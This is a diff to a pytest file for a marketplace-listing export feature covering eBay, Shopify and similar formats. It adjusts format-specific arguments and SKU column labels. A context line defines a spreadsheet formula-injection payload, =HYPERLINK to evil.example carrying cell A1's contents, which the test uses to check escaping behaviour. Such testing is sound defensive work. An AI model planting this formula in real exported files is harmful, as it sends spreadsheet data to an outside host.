@@ -9,7 +9,7 @@ import pytest
 
 from listings.exports import all_formats
 from listings.exports.cells import safe
-from tests.listings.exports.conftest import send, table
+from tests.listings.exports.conftest import CATEGORY, send, table
 
 MACHINES = [one for one in all_formats().values() if one.platform is not None]
 EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Jeans")'
@@ -61,11 +61,16 @@ def test_a_file_for_a_machine_leaves_cells_as_they_are(owner, make_listing, form
     listing = make_listing(**told(sku=sku, description="@SUM(1)"))
     link = "https://shop.example/p?n={sku}&h={handle}"
     header, [row] = table(
-        send(owner, format.name, **({"link": link} if "link" in format.requires else {}))
+        send(
+            owner,
+            format.name,
+            **({"link": link} if "link" in format.requires else CATEGORY.get(format.name, {})),
+        )
     )
     assert not any(cell.startswith("'") for cell in [*header, *row.values()])
     assert EVIL in row.values()
-    assert row[{"ebay": "CustomLabel", "shopify": "SKU"}.get(format.name, "id")] == sku
+    labels = {"ebay": "CustomLabel", "ebayDrafts": "Custom label (SKU)", "shopify": "SKU"}
+    assert row[labels.get(format.name, "id")] == sku
     if "link" in format.requires:
         number = listing.public_id[-8:].lower()
         assert parse_qs(urlsplit(row["link"]).query)["n"] == [row["id"]]
